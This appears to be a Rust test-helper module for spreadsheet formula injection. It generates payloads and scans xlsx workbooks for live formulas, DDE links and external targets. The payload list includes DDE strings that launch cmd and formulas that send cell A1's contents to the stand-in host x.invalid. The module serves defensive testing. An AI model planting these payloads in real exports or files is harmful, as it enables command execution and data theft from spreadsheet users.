//! What a spreadsheet program would run if it could, and how to find it in a workbook. Whoever writes one is asked.

use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use zip::ZipArchive;

/// What makes a program take a cell for a formula, the full-width forms and what hides in front of them included.
const FIRST: [&str; 20] = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\0=",
    "\r\n=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u{A0}=",
    "\u{FEFF}=",
    "'=",
    "\"=",
    ";=",
    "==",
];
const BODIES: [&str; 11] = [
    "cmd|'/c calc'!A0",
    "HYPERLINK(\"http://x.invalid/?\"&A1,\"ici\")",
    "IMPORTXML(CONCAT(\"http://x.invalid/?\",A1),\"//a\")",
    "WEBSERVICE(\"http://x.invalid/\"&A1)",
    "DDE(\"cmd\";\"/c calc\";\"1\")",
    "MSEXCEL|'\\..\\..\\cmd.exe'!''",
    "1+1",
    "SUM(1,1)*cmd|'/c calc'!A0",
    "{=1}",
    "_x003D_1</t><f>1</f>",
    "A1;=B1,\"=C1\"\n=D1",
];
/// What a program would rather take for a number, a date, a truth or an error.
const SEEMING: [&str; 10] =
    ["00750", "1e5", "12,5", "TRUE", "VRAI", "#N/A", "#REF!", "2026-11-24", "_x0041_", "http://x.invalid/"];

pub fn payloads() -> Vec<String> {
    let formulas = FIRST.iter().flat_map(|first| BODIES.iter().map(move |body| format!("{first}{body}")));
    formulas.chain(SEEMING.map(str::to_owned)).collect()
}

pub fn open(bytes: &[u8]) -> Xlsx<Cursor<Vec<u8>>> {
    open_workbook_from_rs(Cursor::new(bytes.to_vec())).expect("a workbook")
}

/// What a program would run or fetch, by two readers: one that knows the format, one that only knows its words.
pub fn live(bytes: &[u8]) -> Vec<String> {
    let mut book = open(bytes);
    let mut found = Vec::new();
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).expect("a sheet");
        let written = formulas.used_cells().filter(|(_, _, formula)| !formula.is_empty());
        found.extend(written.map(|(row, column, formula)| format!("{name} {row} {column}: {formula}")));
    }
    let mut archive = ZipArchive::new(Cursor::new(bytes)).expect("an archive");
    for at in 0..archive.len() {
        let mut part = archive.by_index(at).expect("a part");
        let name = part.name().expect("a name").into_owned();
        let kinds = ["xl/worksheets/sheet", "xl/sharedStrings", "xl/styles", "xl/theme/", "xl/workbook", "docProps/"];
        let known = kinds.iter().any(|kind| name.starts_with(kind)) || name.ends_with(".rels") || name.starts_with('[');
        let mut xml = String::new();
        part.read_to_string(&mut xml).expect("words");
        let runs = ["<f>", "<f ", "<hyperlink", "ddeLink", "TargetMode=\"External\"", "<definedName "];
        let of_filter = |xml: &str| xml.replace("<definedName name=\"_xlnm._FilterDatabase\"", "");
        let xml = if name == "xl/workbook.xml" { of_filter(&xml) } else { xml };
        found.extend(runs.iter().filter(|word| xml.contains(**word)).map(|word| format!("{name}: {word}")));
        if !known {
            found.push(name);
        }
    }
    found
}

/// Every text of a sheet, as often as it stands there.
pub fn texts_of(book: &mut Xlsx<Cursor<Vec<u8>>>, sheet: &str) -> Vec<String> {
    let range = book.worksheet_range(sheet).expect("a sheet");
    let text = |(_, _, cell): (usize, usize, &Data)| match cell {
        Data::String(text) => Some(text.clone()),
        _ => None,
    };
    range.used_cells().filter_map(text).collect()
}
